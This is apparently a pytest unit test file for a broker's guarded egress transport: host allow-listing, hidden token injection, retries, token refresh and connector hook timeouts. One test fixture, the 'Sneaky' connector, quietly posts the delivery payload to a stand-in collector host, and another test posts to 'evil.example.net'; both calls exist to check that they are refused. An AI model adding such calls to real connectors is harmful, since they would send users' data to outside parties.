"""The guarded transport under every connector hook, and running hooks safely."""

from __future__ import annotations

import contextlib
import logging
import threading
from typing import Any

import httpx
import pytest

from broker.core.catalog import default_catalog
from broker.core.connector import BoundAction, Connector, DeliveryResult
from broker.core.dispatch import dispatch, guarded_client
from broker.core.egress import (
    EgressLog,
    EgressStopped,
    EgressTransport,
    RetryPolicy,
    allowed_origins,
)
from broker.core.errors import DeliveryRejected, EgressDenied, ProviderError, TokenRejected
from broker.core.manifest import parse_manifest
from tests.unit.core.test_manifest import valid_raw

API = "https://api.example.com/messages"


class Wire(httpx.BaseTransport):
    """The network: records what reached it and answers from a script."""

    def __init__(self, *answers: Any) -> None:
        self.answers = list(answers)
        self.seen: list[httpx.Request] = []

    def handle_request(self, request: httpx.Request) -> httpx.Response:
        self.seen.append(request)
        answer = self.answers.pop(0) if self.answers else httpx.Response(200, json={"id": 1})
        if isinstance(answer, Exception):
            raise answer
        return answer


def transport(wire: Wire, **kw: Any) -> EgressTransport:
    kw.setdefault("token", lambda: "tok-1")
    kw.setdefault("sleep", lambda s: None)
    return EgressTransport(wire, connector_id="example", allowed={("api.example.com", 443)}, **kw)


def client(t: EgressTransport) -> httpx.Client:
    return guarded_client(t, user_agent="ua", timeout=5)


def test_undeclared_host_is_refused_before_the_wire_and_logged(
    caplog: pytest.LogCaptureFixture,
) -> None:
    wire = Wire()
    t = transport(wire)
    caplog.set_level(logging.WARNING, logger="broker.egress")
    for url in (
        "https://evil.example.net/x",
        "http://api.example.com/x",
        "https://api.example.com:8443/",
    ):
        with pytest.raises(EgressDenied):
            client(t).post(url, json={"a": 1})
    assert wire.seen == [], "nothing reached the network"
    assert len(t.log.refused) == 3
    assert "evil.example.net" in caplog.text and "refused" in caplog.text


def test_token_is_added_on_the_wire_but_never_visible_to_the_connector() -> None:
    wire = Wire()
    c = client(transport(wire))
    resp = c.post(API, json={"a": 1}, headers={"Authorization": "Bearer connector-made-this-up"})
    assert wire.seen[0].headers["authorization"] == "Bearer tok-1"
    assert (
        "authorization" not in resp.request.headers
        or "tok-1" not in resp.request.headers["authorization"]
    )
    assert "tok-1" not in repr(resp.request.headers)


def test_allowed_origins_come_from_actions_and_hosts_with_settings() -> None:
    raw = valid_raw()
    raw["settings"] = [{"name": "team", "label": "Team", "pattern": "^[a-z]+$"}]
    raw["hosts"] = ["{team}.files.example.com", "127.0.0.1:9000"]
    manifest = parse_manifest(raw, default_catalog(), source="t")
    assert allowed_origins(manifest, {"team": "red"}) == {
        ("api.example.com", 443),
        ("red.files.example.com", 443),
        ("127.0.0.1", 9000),
    }
    assert ("red.files.example.com", 443) not in allowed_origins(manifest, {})


def test_retries_429_and_5xx_honouring_retry_after() -> None:
    waits: list[float] = []
    wire = Wire(
        httpx.Response(429, headers={"Retry-After": "3"}), httpx.Response(503), httpx.Response(201)
    )
    t = transport(wire, sleep=waits.append, policy=RetryPolicy(backoff_base=0.5))
    assert client(t).post(API).status_code == 201
    assert [a.get("status") for a in t.log.attempts] == [429, 503, 201]
    assert waits[0] == 3 and 0 <= waits[1] <= 1


def test_gives_up_after_max_attempts_and_says_so() -> None:
    wire = Wire(*[httpx.Response(502) for _ in range(5)])
    t = transport(wire, policy=RetryPolicy(max_attempts=3))
    assert client(t).post(API).status_code == 502
    assert t.log.gave_up == "gave up after 3 attempts: HTTP 502"
    assert len(wire.seen) == 3


def test_401_refreshes_once_then_repeats_the_request() -> None:
    refreshed: list[str] = []

    def refresh(stale: str) -> str:
        refreshed.append(stale)
        return "tok-2"

    wire = Wire(httpx.Response(401), httpx.Response(200), httpx.Response(401))
    t = transport(wire, refresh=refresh)
    assert client(t).post(API).status_code == 200
    assert refreshed == ["tok-1"]
    assert wire.seen[1].headers["authorization"] == "Bearer tok-2"
    assert client(t).post(API).status_code == 401, "only one refresh per delivery"


def test_failed_refresh_is_fatal_whatever_the_connector_does() -> None:
    def refresh(stale: str) -> str:
        raise ProviderError("token refresh refused: invalid_grant")

    t = transport(Wire(httpx.Response(401)), refresh=refresh)
    assert client(t).post(API).status_code == 401
    assert t.log.fatal == "token refresh failed: token refresh refused: invalid_grant"


def test_connect_errors_are_retried_but_a_lost_answer_is_not() -> None:
    wire = Wire(httpx.ConnectError("refused"), httpx.Response(200))
    assert client(transport(wire)).post(API).status_code == 200
    lost = Wire(httpx.ReadTimeout("slow"), httpx.Response(200))
    t = transport(lost)
    with pytest.raises(httpx.ReadTimeout):
        client(t).post(API)
    assert len(lost.seen) == 1
    assert "the outcome is unknown" in t.log.attempts[-1]["error"]


def test_connector_retry_delay_turns_a_403_into_a_retry() -> None:
    waits: list[float] = []
    wire = Wire(httpx.Response(403, json={"message": "slow down"}), httpx.Response(201))
    t = transport(wire, sleep=waits.append, retry_delay=lambda r, now: 12.0)
    assert client(t).post(API).status_code == 201
    assert waits == [12.0]


def test_a_stopped_transport_sends_nothing() -> None:
    wire = Wire()
    t = transport(wire)
    t.stop("the delivery is over")
    with pytest.raises(EgressStopped, match="the delivery is over"):
        client(t).post(API)
    assert wire.seen == []


# --- dispatch: a hook's failures become outcomes --------------------------------------


def manifest_connector(cls: type[Connector] = Connector) -> Connector:
    return cls(parse_manifest(valid_raw(), default_catalog(), source="t"))


ACTION = BoundAction("post_message", "POST", API)


def run(connector: Connector, wire: Wire, *, time_limit: float = 5.0, **kw: Any):
    t = transport(wire, **kw)
    outcome = dispatch(
        connector,
        ACTION,
        {"work_item": {"id": "W-1"}},
        t,
        user_agent="ua",
        http_timeout=5,
        time_limit=time_limit,
    )
    return outcome, t


def test_manifest_action_sends_canonical_json_and_keeps_the_id() -> None:
    wire = Wire(httpx.Response(201, json={"id": 77}))
    outcome, _t = run(manifest_connector(), wire)
    assert outcome.delivered and outcome.response_id == "77" and outcome.status_code == 201
    assert wire.seen[0].content == b'{"work_item":{"id":"W-1"}}'


def test_manifest_action_refused_keeps_the_providers_message() -> None:
    outcome, _t = run(
        manifest_connector(), Wire(httpx.Response(422, json={"message": "no such channel"}))
    )
    assert not outcome.delivered
    assert outcome.reason == "HTTP 422: no such channel"


class Raising(Connector):
    def deliver(self, action: BoundAction, payload: dict[str, Any], client: httpx.Client) -> None:
        raise KeyError("title")


class Hanging(Connector):
    release = threading.Event()
    finished = threading.Event()
    late: list[str] = []

    def deliver(self, action: BoundAction, payload: dict[str, Any], client: httpx.Client) -> None:
        self.release.wait(10)
        try:
            client.post(action.url)
        except Exception as exc:  # the client is closed, or the transport stopped
            self.late.append(type(exc).__name__)
        finally:
            self.finished.set()


class Nonsense(Connector):
    def deliver(self, action: BoundAction, payload: dict[str, Any], client: httpx.Client) -> Any:
        return {"ok": True}


class Sneaky(Connector):
    def deliver(self, action: BoundAction, payload: dict[str, Any], client: httpx.Client) -> None:
        with contextlib.suppress(EgressDenied):
            client.post("https://collector.example.org/", json=payload)
        client.post(action.url, json=payload)


class Mutating(Connector):
    def deliver(
        self, action: BoundAction, payload: dict[str, Any], client: httpx.Client
    ) -> DeliveryResult:
        payload["work_item"]["id"] = "changed"
        client.post(action.url, json=payload)
        return DeliveryResult("m-1")


class ChatStyle(Connector):
    calls = 0

    def deliver(self, action: BoundAction, payload: dict[str, Any], client: httpx.Client) -> None:
        ChatStyle.calls += 1
        body = client.post(action.url).json()
        if not body["ok"]:
            if body["error"] == "token_expired":
                raise TokenRejected("token_expired")
            raise DeliveryRejected(body["error"])


def test_a_raising_hook_is_a_failed_outcome_with_the_error(
    caplog: pytest.LogCaptureFixture,
) -> None:
    caplog.set_level(logging.WARNING, logger="broker.connectors")
    outcome, _t = run(manifest_connector(Raising), Wire())
    assert not outcome.delivered
    assert outcome.reason == "connector_error (KeyError)", "the type, never the text"
    assert "raised in deliver" in caplog.text and "'title'" in caplog.text, "text: operator log"
    assert [r.levelno for r in caplog.records] == [logging.WARNING]


def test_a_hanging_hook_times_out_and_can_send_nothing_afterwards() -> None:
    wire = Wire()
    outcome, _t = run(manifest_connector(Hanging), wire, time_limit=0.2)
    assert not outcome.delivered
    assert outcome.reason is not None and "did not finish within 0.2 s" in outcome.reason
    Hanging.release.set()
    assert Hanging.finished.wait(10), "the abandoned hook went on after its time limit"
    assert Hanging.late, "its late request was refused"
    assert wire.seen == [], "nothing it tried reached the network"


def test_a_hook_returning_nonsense_fails() -> None:
    outcome, _t = run(manifest_connector(Nonsense), Wire())
    assert not outcome.delivered
    assert outcome.reason == "invalid_result (dict)"


def test_a_swallowed_egress_refusal_still_fails_the_transfer() -> None:
    wire = Wire()
    outcome, t = run(manifest_connector(Sneaky), wire)
    assert not outcome.delivered
    assert "collector.example.org" in (outcome.reason or "")
    assert [r.url.host for r in wire.seen] == ["api.example.com"]
    assert t.log.refused == ["https://collector.example.org"]


def test_the_hook_gets_a_private_copy_of_the_payload() -> None:
    payload = {"work_item": {"id": "W-1"}}
    t = transport(Wire())
    outcome = dispatch(
        manifest_connector(Mutating),
        ACTION,
        payload,
        t,
        user_agent="ua",
        http_timeout=5,
        time_limit=5,
    )
    assert outcome.delivered and outcome.response_id == "m-1"
    assert payload == {"work_item": {"id": "W-1"}}


def test_token_rejected_refreshes_and_calls_the_hook_again() -> None:
    ChatStyle.calls = 0
    wire = Wire(
        httpx.Response(200, json={"ok": False, "error": "token_expired"}),
        httpx.Response(200, json={"ok": True}),
    )
    outcome, _t = run(manifest_connector(ChatStyle), wire, refresh=lambda stale: "tok-2")
    assert outcome.delivered and ChatStyle.calls == 2
    assert wire.seen[1].headers["authorization"] == "Bearer tok-2"
    wire = Wire(httpx.Response(200, json={"ok": False, "error": "channel_not_found"}))
    outcome, _t = run(manifest_connector(ChatStyle), wire)
    assert outcome.reason == "channel_not_found"


def test_no_usable_token_is_reported() -> None:
    def broken() -> str:
        raise ProviderError("the access token expired and the provider issued no refresh token")

    outcome, _t = run(manifest_connector(), Wire(), token=broken)
    assert outcome.reason == (
        "no usable access token: the access token expired and the provider issued no refresh token"
    )
    assert EgressLog().attempts == []
